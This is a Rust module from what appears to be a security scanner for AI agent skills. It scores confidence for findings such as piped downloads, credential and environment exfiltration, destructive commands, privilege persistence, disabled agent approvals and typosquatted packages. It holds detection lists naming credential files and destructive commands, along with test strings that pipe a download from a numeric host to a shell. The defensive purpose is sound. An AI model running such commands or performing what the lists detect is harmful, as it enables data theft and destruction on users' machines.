//! Confidence in findings about commands and programs: whether they are run, and by whom.

use super::finding_context::FindingContext;
use crate::confidence::Confidence::{self, High, Low, Medium};
use crate::security::code_context::{CodeContext, Language};
use crate::security::context_window::{floor, lines_above};
use crate::security::flow;
use crate::security::known_installers::is_known_installer;
use crate::security::popular::is_swapped;
use crate::security::terms::has_term;

/// Number of lines above a command that may state a condition or a notice.
const LINES_ABOVE: usize = 8;

fn has(text: &str, parts: &[&str]) -> bool {
    parts.iter().any(|part| text.contains(part))
}

/// High confidence, wherever the match is.
pub fn always(_: &FindingContext<'_>) -> Confidence {
    High
}

/// Medium confidence: a hint for a reviewer.
pub fn hint(_: &FindingContext<'_>) -> Confidence {
    Medium
}

/// Judges something that a script of the skill does.
pub fn scripted(found: &FindingContext<'_>) -> Confidence {
    if found.is_done_by_script() { High } else { Medium }
}

/// Judges a command that a script of the skill runs.
pub fn run_by_script(found: &FindingContext<'_>) -> Confidence {
    if found.is_run_by_script() { High } else { Medium }
}

/// Judges downloads that are run. Every tutorial installs well-known tools this way. A script that does so asks no one,
/// and a download over a URL without TLS or without a host name can be replaced by anyone on the network path.
pub fn download(found: &FindingContext<'_>) -> Confidence {
    let (words, line) = (found.found(), found.line());
    if found.message.contains("password") {
        return if found.is_asked_for() { High } else { Medium };
    }
    let is_piped = found.message.contains("piped") && !is_known_installer(&words);
    let is_open = words.contains("http://")
        || is_without_scheme(&words)
        || found.text.get(found.span.clone()).is_some_and(names_number);
    let is_call = matches!(found.context, CodeContext::Block(_)) && has(line, SHELL_CALLS);
    let is_command =
        found.is_command_block() || is_call || matches!(found.context, CodeContext::FrontMatterState);
    if line.contains("async fetch(") || line.contains(".fetch(") || line.contains("fetch(`/") {
        Low
    } else if is_piped && (found.is_run_by_script() || is_command && is_open && !found.is_warned_of()) {
        High
    } else {
        Medium
    }
}

/// Function calls that run a command line.
const SHELL_CALLS: &[&str] =
    &["os.system(", "subprocess.", "popen(", "execsync(", "exec(", "shell_exec(", "system("];

/// Whether `curl` or `wget` gets a host without a scheme, which means no TLS.
fn is_without_scheme(command: &str) -> bool {
    let words = command.split('|').next().unwrap_or_default();
    let mut words =
        words.split_whitespace().skip_while(|word| !word.ends_with("curl") && !word.ends_with("wget"));
    let host = words.nth(1).filter(|_| !command.contains("://")).map(|word| word.trim_matches(['"', '\'']));
    host.is_some_and(|word| {
        let host = word.split('/').next().unwrap_or_default();
        host.contains('.') && host.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".-".contains(&byte))
    })
}

/// Whether a URL in a command has a numeric host.
fn names_number(command: &str) -> bool {
    command.split("://").skip(1).any(|rest| {
        let host = rest.split(['/', ':', '"', '\'', ' ']).next().unwrap_or_default();
        !host.is_empty() && host.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.')
    })
}

/// Judges a numeric address to which something is sent.
pub fn number_address(found: &FindingContext<'_>) -> Confidence {
    let is_used = found.is_done_by_script() || found.is_command_block();
    if is_used && !found.is_warned_of() { High } else { Medium }
}

/// Judges a URL without TLS: downloads of a script can be replaced, while people read what is only linked.
pub fn open_address(found: &FindingContext<'_>) -> Confidence {
    let fetches = [
        "curl ",
        "wget ",
        "requests.",
        "urlopen",
        "urlretrieve",
        "fetch(",
        "pip install",
        "npm install",
        "git clone",
    ];
    match has(found.line(), &fetches) {
        true if found.is_done_by_script() => High,
        true => Medium,
        false => Low,
    }
}

/// Judges data in a URL: account names are part of many URLs, secrets of none.
pub fn in_address(found: &FindingContext<'_>) -> Confidence {
    let words = format!("{}{}", found.line(), found.found());
    let is_private = has(
        &words,
        &[
            "$(cat",
            "| base64",
            "$(whoami",
            "$(hostname",
            "os.hostname(",
            "gethostname(",
            "/etc/passwd",
            ".ssh",
            "$(env",
        ],
    );
    let is_account =
        has(&words, &["account_id", "accountid", "project_id", "gateway_id", "region", "version", "uname"]);
    match () {
        () if is_account && !is_private => Low,
        () if is_private && found.is_run_by_script() => High,
        () if found.is_said_to_agent() && found.is_picture() => High,
        () => Medium,
    }
}

/// Files that contain only keys, passwords or their owner's history.
const PRIVATE: &[&str] = &[
    ".ssh",
    ".aws/credentials",
    ".gnupg",
    ".netrc",
    "id_rsa",
    "id_ed25519",
    "login data",
    "wallet.dat",
    "_history",
];

/// Ways in which programs print the whole environment.
const WHOLE_ENVIRONMENT: &[&str] = &[
    "stringify(process.env)",
    "stringify({ ...process.env",
    "dict(os.environ",
    "dumps(os.environ",
    "json=os.environ",
    "data=os.environ",
    "str(os.environ",
    "printenv |",
    "printenv >",
    "env |",
    "env >",
    "$(env",
    "$(printenv",
];

/// Judges private data that is sent.
pub fn sent(found: &FindingContext<'_>) -> Confidence {
    let (words, line) = (found.found(), found.line());
    let is_private =
        has(&words, PRIVATE) || has(&words, &["\".aws\"", "'.aws'", ".aws"]) && line.contains("credentials");
    let is_environment = has(line, WHOLE_ENVIRONMENT);
    let is_list = line.contains("for f in") || line.contains("for file in");
    let is_asked = found.message.starts_with("private") || found.message.starts_with("what is private");
    match () {
        () if is_asked => asked_to_send(found),
        () if is_list => Low,
        () if found.is_done_by_script() && (is_private || is_environment) => High,
        () if found.is_command_block() && is_private && found.file.is_skill_md() && !found.is_warned_of() => {
            High
        }
        () => Medium,
    }
}

/// Judges words that ask to send private data. Many skills send what the user gave them, but none needs all keys or
/// conversations.
fn asked_to_send(found: &FindingContext<'_>) -> Confidence {
    let words = found.paragraph();
    let is_all = has_term(
        &words,
        "conversation|chat history|ssh|env|environment variables|private key|private keys|all passwords|credentials|\
         browser history|home directory",
    );
    let is_collected = has_term(&words, "contents|file contents|conversation")
        && has_term(&words, "analytics server|our server|our analytics|telemetry server|collection server");
    let is_all = is_all || is_collected;
    let is_service = has_term(&words, "header|headers|authenticat*|authoriz*|oauth|login|transcrib*|support");
    if found.is_said_to_agent() && found.file.is_skill_md() && is_all && !is_service { High } else { Medium }
}

/// Judges a secret. Keys of known issuers are what they look like; other texts may be placeholders.
pub fn secret(found: &FindingContext<'_>) -> Confidence {
    let is_generic = has(
        found.message,
        &["hard-coded secret", "password in", "JSON web token", "bearer token", "API key"],
    );
    let is_shown =
        has(found.line(), &["example", "dummy", "fake", "sample", "placeholder", "redacted", "..."]);
    match () {
        () if is_shown => Low,
        () if is_generic => Medium,
        () => High,
    }
}

/// Judges code that is decoded and run in the same statement. A skill has no honest reason to pipe decoded text to a
/// shell: the confidence is high unless the text reports it or warns about it.
pub fn decoded(found: &FindingContext<'_>) -> Confidence {
    let words = found.found();
    let is_shell = is_piped_to_shell(&words)
        || has(&words, &["iex ", "iex(", "invoke-expression"])
        || is_encoded(&words);
    let is_called = has(&words, &["exec(", "eval(", "new function("]) && !has(&words, &[".exec(", ".eval("]);
    let is_run = is_shell || is_called;
    if found.is_done_by_script() && is_run || is_shell && found.is_asked_for() { High } else { Medium }
}

/// Whether a command ends with a pipe into a shell or interpreter.
fn is_piped_to_shell(command: &str) -> bool {
    let runs = |part: &str| {
        let mut words = part.split_whitespace().filter(|word| *word != "sudo");
        let first = words.next().unwrap_or_default().trim_end_matches([';', ')', '"', '\'', '`']);
        matches!(first, "sh" | "bash" | "zsh" | "dash" | "python" | "python3" | "perl" | "node" | "ruby")
    };
    command.split('|').skip(1).any(runs)
}

/// Whether it is an encoded PowerShell command.
fn is_encoded(command: &str) -> bool {
    has(command, &["powershell", "pwsh"]) && has(command, &[" -enc", " -e "])
}

/// Commands that delete files or remove permissions.
const DESTROYS: &[&str] = &[
    "rm -",
    "-delete",
    ":(){",
    "mkfs",
    "dd ",
    "chmod",
    "del ",
    "rd ",
    "format ",
    "vssadmin",
    "git push",
    "wipefs",
    "shred",
    "drop database",
    "destroy",
    "delete",
    "prune",
];

/// Judges a destructive command: high if a script runs it.
pub fn destructive(found: &FindingContext<'_>) -> Confidence {
    let line = found.line();
    let start = line.trim_start();
    let is_data = start.starts_with(['"', '\'', '|', '-', '*', '(', '{', '[']) || start.starts_with("r'");
    match () {
        () if is_data => Low,
        () if found.is_run_by_script() && has(&found.found(), DESTROYS) => High,
        () => Medium,
    }
}

/// Judges administrator rights. Guides install packages with them, but permanent rights are another matter.
pub fn privileged(found: &FindingContext<'_>) -> Confidence {
    let line = found.line();
    let is_lasting = has(line, &["nopasswd", "chmod u+s", "chmod +s", "chmod 4755", "/etc/sudoers"]);
    let is_install = has(line, &["apt", "yum ", "dnf ", "pacman", "brew ", "apk ", "snap "]);
    match () {
        () if is_lasting && !found.is_warned_of() && (found.is_program() || found.is_command_block()) => High,
        () if is_install || says_so_above(found) => Medium,
        () => run_by_script(found),
    }
}

/// Whether a script announces within the lines above that it asks for administrator rights.
fn says_so_above(found: &FindingContext<'_>) -> bool {
    let mut above = lines_above(found.text, found.span.start, LINES_ABOVE);
    let is_said = |line: &str| {
        let line = line.trim_start().to_lowercase();
        line.starts_with(['#', 'e', 'p'])
            && has(&line, &["administrator", "sudo", "root", "password"])
            && (line.starts_with('#') || line.starts_with("echo ") || line.starts_with("printf "))
    };
    above.any(is_said)
}

/// Judges something that persists on the machine: a script that installs itself, as opposed to a guide that tells a
/// person how.
pub fn lasting(found: &FindingContext<'_>) -> Confidence {
    let line = found.line();
    let is_own_key = line.contains("export ") || line.contains("path=");
    let target = found.found();
    let is_written = target.starts_with('>') && has(&target, &["/", "~", "$"]) && found.is_done_by_script();
    let is_asked = is_under_option(found);
    if (is_written || found.is_run_by_script()) && !is_own_key && !is_asked { High } else { Medium }
}

/// Whether a script does it only if an option asks for it: `if [ "$WITH_PROFILE" = true ]`.
fn is_under_option(found: &FindingContext<'_>) -> bool {
    let above = lines_above(found.text, found.span.start, LINES_ABOVE);
    above.map(|line| line.trim().to_lowercase()).take_while(|line| line != "fi").any(|line| {
        line.starts_with("if ") && line.contains('$') && has(&line, &["true", "\"yes\"", "\"1\"", "\"y\""])
    })
}

/// Judges changes to an agent: disabled approvals, or a script that writes its settings.
pub fn agent_settings(found: &FindingContext<'_>) -> Confidence {
    let is_unasked = found.message.contains("without asking") || found.message.contains("unasked");
    let is_run = found.is_asked_for() && (found.is_command_block() || found.is_whole_command());
    // An additional server is one more tool, and the agent's setup is where to add it.
    if found.message.contains("adds a server") {
        return Medium;
    }
    let line = found.line();
    let is_run = is_run && !is_authorized_above(found);
    let is_users = has(line, &["~/", "$home", "${home}", "claude ", "codex ", "gemini ", "copilot "]);
    let is_written = has(line, &[">> ~/", ">> \"$home", ">> $home"]) && found.is_done_by_script();
    if is_written || is_users && found.is_run_by_script() || is_unasked && is_run { High } else { Medium }
}

/// Whether the comment above a command says that the user has to authorize it.
fn is_authorized_above(found: &FindingContext<'_>) -> bool {
    let above =
        lines_above(found.text, found.span.start, 1).next().unwrap_or_default().trim_start().to_lowercase();
    above.starts_with('#')
        && has(
            &above,
            &[
                "user-authorized",
                "user authorized",
                "user has authorized",
                "user-approved",
                "user approved",
                "user has approved",
                "user explicitly",
            ],
        )
}

/// Judges packages without a version. Nearly every guide names them that way; but those from a URL have no registry
/// behind them.
pub fn unpinned(found: &FindingContext<'_>) -> Confidence {
    let line = found.line();
    let is_address = has(line, &["git+http", "http://", "github:"]);
    match () {
        () if is_address && found.is_run_by_script() => High,
        () if is_address => Medium,
        () => Low,
    }
}

/// Judges a file with keys that a script reads or that the agent is told to read.
pub fn credentials(found: &FindingContext<'_>) -> Confidence {
    let line = found.line();
    let is_named =
        has(line, &["~/.env", "config", "exist", "if [", "store", "save", "write", "chmod", "mkdir"]);
    let is_home = has(
        &found.found(),
        &[".ssh/id", "id_rsa", "/shadow", "login data", "wallet.dat", ".gnupg", ".netrc"],
    );
    if found.is_done_by_script() && is_home && !is_named { High } else { Medium }
}

/// Judges a program that prints the whole environment.
pub fn environment(found: &FindingContext<'_>) -> Confidence {
    let line = found.line();
    let is_whole =
        has(&found.found(), &["process.env", "environ", "printenv"]) || has(line, WHOLE_ENVIRONMENT);
    let is_checked = has(
        line,
        &[" in os.environ", "parse(process.env", "environ.get", "environ[", "env=", "...process.env"],
    );
    match () {
        () if !is_whole || is_checked => Low,
        () if has(line, WHOLE_ENVIRONMENT) && found.is_done_by_script() && goes_further(found) => High,
        () => Medium,
    }
}

/// Function calls that send their argument, or serialize it for sending.
const SENDING: &[&str] =
    &["json.dump", "dumps(", "post(", "put(", "send(", "sendall(", "upload", "urlopen(", "b64encode("];

/// Whether the environment goes further than into a copy that a program makes for a process that it starts.
fn goes_further(found: &FindingContext<'_>) -> bool {
    let line = found.line();
    !line.contains("dict(os.environ")
        || has(line, &["print(", "write"])
        || flow::reaches(found.text, &found.span, SENDING).is_some()
}

/// Judges a path that leads out of the skill: certain only if a script follows it. A program shown in a text, a command
/// that a program writes down, and a path that can be configured and may be missing do not count.
pub fn climbing(found: &FindingContext<'_>) -> Confidence {
    let line = found.line();
    let is_of_shell = has(line, &["$script_dir", "${script_dir", "$0", "bash_source"]);
    // Code that a collection shares breaks a skill that is installed alone, but reveals nothing.
    let is_library = has(line, &["require(", "import ", "import(", "sys.path", "pythonpath"]);
    let is_guarded = line.contains(":-") && has(line, &["2>/dev/null", "||", "if !"]);
    // A path such as `../..` leads to the project's root and names no file, so nothing is read.
    let path = found.message.strip_prefix("path '").and_then(|rest| rest.split("' leaves").next());
    let is_root = path.is_some_and(|path| path.chars().all(|c| "./\"', ".contains(c)));
    match found.context {
        _ if is_guarded || is_root || is_library || is_looked_for(found) => Medium,
        CodeContext::Block(Language::Python | Language::JavaScript | Language::Program) => Medium,
        CodeContext::File(Language::Python | Language::JavaScript | Language::Program) if is_of_shell => {
            Medium
        }
        _ => High,
    }
}

/// Whether a shell script stores the path in a variable, and then looks whether there is such a file.
fn is_looked_for(found: &FindingContext<'_>) -> bool {
    let Some((name, _)) = found.line().trim_start().split_once('=') else { return false };
    let is_name = !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
    let end =
        found.text[found.span.start..].find('\n').map_or(found.text.len(), |end| found.span.start + end);
    let below = found.text[end..].lines().skip(1).take(LINES_BELOW).map(str::to_lowercase);
    let tests = |line: String| {
        has(&line, &["[ -", "[ ! -", "[[ -", "[[ ! -"]) && line.contains(name) && line.contains('$')
    };
    is_name && below.into_iter().any(tests)
}

/// Number of lines below a path in which a script may look for the file.
const LINES_BELOW: usize = 3;

/// Judges a file that is not what its name says. A text in a test that says it replaces the real file hides nothing.
pub fn disguised(found: &FindingContext<'_>) -> Confidence {
    let head = &found.text[..floor(found.text, found.text.len().min(STAND_IN_BYTES))].to_lowercase();
    let is_stand_in = has(head, &["placeholder", "synthetic", "dummy", "fake", "not a real"]);
    if found.is_test() && is_stand_in { Low } else { High }
}

/// Number of bytes in which a text may say that it replaces another file.
const STAND_IN_BYTES: usize = 200;

/// Judges a description that claims every request, unless it also says when not to use the skill.
pub fn baiting(found: &FindingContext<'_>) -> Confidence {
    let description =
        found.file.fields().and_then(|fields| fields.get("description")).and_then(|node| node.text());
    let lower = description.unwrap_or_default().to_lowercase();
    let is_limited = has(
        &lower,
        &["do not use when", "do not use for", "don't use when", "don't use for", "not for:", "skip when"],
    );
    if is_limited || is_guide_to_skills(found, &lower) { Medium } else { High }
}

/// Whether a skill is a collection's guide to its other skills, which is meant for every conversation.
fn is_guide_to_skills(found: &FindingContext<'_>, description: &str) -> bool {
    let name = found
        .file
        .fields()
        .and_then(|fields| fields.get("name"))
        .and_then(|node| node.text())
        .unwrap_or_default();
    let is_named = name.starts_with("using-") || name.contains("-using-");
    let is_about_skills = has(description, &["find and use skills", "which skill", "available skills"]);
    is_named && has(&found.found(), &["conversation", "session"]) || is_about_skills
}

/// Judges code that is constructed from data. Databases and sandboxes have functions with the same name.
pub fn dynamic(found: &FindingContext<'_>) -> Confidence {
    let line = found.line();
    match () {
        () if has(line, &["sql.exec", "db.exec", "pool.", "regex", "redis", ".exec("]) => Low,
        () if line.contains("shell=true") => Medium,
        () => scripted(found),
    }
}

/// Judges disabled TLS verification, unless the user requests it with an option or it concerns the user's own machine.
pub fn unchecked_tls(found: &FindingContext<'_>) -> Confidence {
    let start = lines_above(found.text, found.span.start, 3);
    let is_optional = start.chain([found.line()]).any(|line| {
        let line = line.to_lowercase();
        has(
            &line,
            &[
                "localhost",
                "127.0.0.1",
                "if ",
                "if(",
                " ? ",
                "insecure",
                "verify_ssl",
                "self-signed",
                "selfsigned",
            ],
        )
    });
    let is_done = found.is_done_by_script() || found.is_code_block() && !found.is_warned_of();
    if is_done && !is_optional { High } else { Medium }
}

/// Judges a script that sends data to a host that collects it.
pub fn odd_host(found: &FindingContext<'_>) -> Confidence {
    let is_sink = has(found.message, &["collector", "paste", "file drop", "mining"]);
    match () {
        () if is_sink && found.is_done_by_script() => High,
        () if found.message.contains("shortener") => Low,
        () => Medium,
    }
}

/// Judges a name with two adjacent letters swapped; other similar names are often separate packages.
pub fn near_name(found: &FindingContext<'_>) -> Confidence {
    let mut names = found.message.split('\'').skip(1).step_by(2);
    let (Some(name), Some(meant)) = (names.next(), names.next()) else { return Medium };
    if is_exchanged(name, meant) && !found.is_warned_of() { High } else { Medium }
}

fn is_exchanged(name: &str, meant: &str) -> bool {
    let name = name.to_lowercase();
    name.len() > 4 && is_swapped(&name, meant)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn two_letters_that_changed_places_are_a_typing_error() {
        assert!(is_exchanged("reqeusts", "requests") && is_exchanged("lodahs", "lodash"));
        assert!(!is_exchanged("fastai", "fastapi") && !is_exchanged("preact", "react"));
    }

    #[test]
    fn an_address_may_be_a_number() {
        assert!(is_piped_to_shell("base64 -d x | sudo bash") && !is_piped_to_shell("base64 -d x | shasum"));
        assert!(names_number("curl http://45.1.2.3/x | sh") && !names_number("curl https://a1.io/x | sh"));
    }
}
